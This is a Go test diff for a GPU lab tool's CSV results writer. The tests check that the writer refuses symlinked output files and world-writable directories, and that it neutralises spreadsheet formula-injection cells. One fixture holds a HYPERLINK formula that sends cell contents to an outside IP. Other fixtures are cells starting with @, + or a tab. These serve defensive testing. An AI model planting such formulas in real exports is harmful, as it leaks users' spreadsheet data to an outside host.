@@ -192,3 +192,62 @@ func writeTestFile(t *testing.T, path, content string, mode os.FileMode) {
 		t.Fatal(err)
 	}
 }
+
+// results.csv that is a link (planted by whoever could write the results
+// directory) is refused: nothing is appended to what it points at. A
+// results directory others can write is refused before a record is made.
+func TestResultsCSVRefusesLinksAndOpenDirectories(t *testing.T) {
+	results := t.TempDir()
+	target := filepath.Join(t.TempDir(), "bashrc")
+	if err := os.WriteFile(target, []byte("# the operator's shell startup file\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	csvPath := filepath.Join(results, "results.csv")
+	if err := os.Symlink(target, csvPath); err != nil {
+		t.Fatal(err)
+	}
+	r := reportRecord(0, true, "dgx01")
+	err := r.Write(r.Dir(results), csvPath)
+	if err == nil || !strings.Contains(err.Error(), "a symbolic link: gpulab writes no file through a link; refused, nothing written") {
+		t.Errorf("results.csv a link: %v", err)
+	}
+	if got := readFile(t, target); got != "# the operator's shell startup file\n" {
+		t.Errorf("the link's target was written:\n%s", got)
+	}
+	open := filepath.Join(t.TempDir(), "shared-results")
+	if err := os.Mkdir(open, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(open, 0o777); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := r.CreateDir(open); err == nil || !strings.Contains(err.Error(), open+" is a directory writable by others") {
+		t.Errorf("a results directory others can write: %v", err)
+	}
+	if err := r.Write(filepath.Join(results, "rec"), filepath.Join(open, "results.csv")); err == nil || !strings.Contains(err.Error(), "chmod go-w "+open) {
+		t.Errorf("results.csv in a directory others can write: %v", err)
+	}
+}
+
+// A cell a spreadsheet would run as a formula is written with a ' before
+// it; a number stays a number.
+func TestResultsCSVNeutralisesFormulas(t *testing.T) {
+	results := t.TempDir()
+	csvPath := filepath.Join(results, "results.csv")
+	r := reportRecord(0, false, "@dgx01", "-dgx02")
+	r.Result = labs.ResultRow{Workload: `=HYPERLINK("http://198.51.100.7/?"&A1,"ok")`, Mode: "+x", Request: "\tcmd", Unit: "-1.5", Throughput: "tps"}
+	r.Hosts[0].Metrics = map[string]any{"tps": -3.5}
+	if err := r.Write(r.Dir(results), csvPath); err != nil {
+		t.Fatal(err)
+	}
+	rows := readCSV(t, csvPath)
+	row := rows[1]
+	for i, want := range map[int]string{2: "'@dgx01", 3: `'=HYPERLINK("http://198.51.100.7/?"&A1,"ok")`, 4: "'+x", 5: "'\tcmd", 6: "-3.5", 7: "-1.5"} {
+		if row[i] != want {
+			t.Errorf("%s = %q, want %q", rows[0][i], row[i], want)
+		}
+	}
+	if rows[2][2] != "'-dgx02" {
+		t.Errorf("host -dgx02 written as %q", rows[2][2])
+	}
+}
